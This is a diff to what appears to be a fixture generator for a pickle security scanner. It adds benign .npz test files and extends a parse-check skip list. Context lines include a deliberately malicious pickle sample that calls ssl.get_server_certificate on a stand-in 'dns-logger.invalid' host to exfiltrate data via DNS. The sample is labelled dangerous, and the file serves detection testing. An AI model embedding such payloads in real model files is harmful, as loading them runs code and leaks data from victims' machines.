@@ -206,6 +206,18 @@ def picklescan():
         'new_pytorch_model.bin (zip state_dict)', 'innocuous: torch.FloatStorage, collections.OrderedDict, torch._utils._rebuild_tensor_v2', benign=True)
     add('ps-object-array.npy', npy('|O', object_array([lit((1, 2)), lit((3, 4))])), src, 'object_array.npy', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
     add('ps-int-array.npy', npy('<i8', struct.pack('<2q', 1, 2)), src, 'int_array.npy', 'clean', benign=True, note='no pickle inside')
+    def npz(arrays, compress):
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, 'w', compression=zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as zf:
+            for name, data in arrays:
+                zf.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data, compress_type=zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED)
+        return out.getvalue()
+    objects = [('a.npy', npy('|O', object_array([lit(0), lit(1), lit(2)]))), ('b.npy', npy('|O', object_array([lit(3), lit(4), lit(5)])))]
+    ints = [('a.npy', npy('<i8', struct.pack('<3q', 0, 1, 2))), ('b.npy', npy('<i8', struct.pack('<3q', 3, 4, 5)))]
+    add('ps-object-arrays.npz', npz(objects, False), src, 'object_arrays.npz', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
+    add('ps-object-arrays-compressed.npz', npz(objects, True), src, 'object_arrays_compressed.npz', 'innocuous: numpy _reconstruct, ndarray, dtype', benign=True)
+    add('ps-int-arrays.npz', npz(ints, False), src, 'int_arrays.npz', 'clean', benign=True, note='no pickle inside')
+    add('ps-int-arrays-compressed.npz', npz(ints, True), src, 'int_arrays_compressed.npz', 'clean', benign=True, note='no pickle inside')
     dns = object_array([call(g('ssl', 'get_server_certificate'), lit(('root_x_0_0_root.dns-logger.invalid', 443)))])
     add('ps-dns-exfiltration.npy', npy('|O', dns), src, 'dns_exfiltration.npy (payload in an object array)', 'dangerous: ssl.get_server_certificate')
 
@@ -304,7 +316,7 @@ def main():
     # Every pickle stream here parses (genops only; nothing is loaded), except the cut and junk cases.
     for c in CASES:
         data = open(os.path.join(OUT, c['file']), 'rb').read()
-        if c['file'].endswith(('.zip', '.bin', '.npy')) or 'broken' in c['file'] or 'frame' in c['file']:
+        if c['file'].endswith(('.zip', '.bin', '.npy', '.npz')) or 'broken' in c['file'] or 'frame' in c['file']:
             continue
         list(pickletools.genops(data))
 
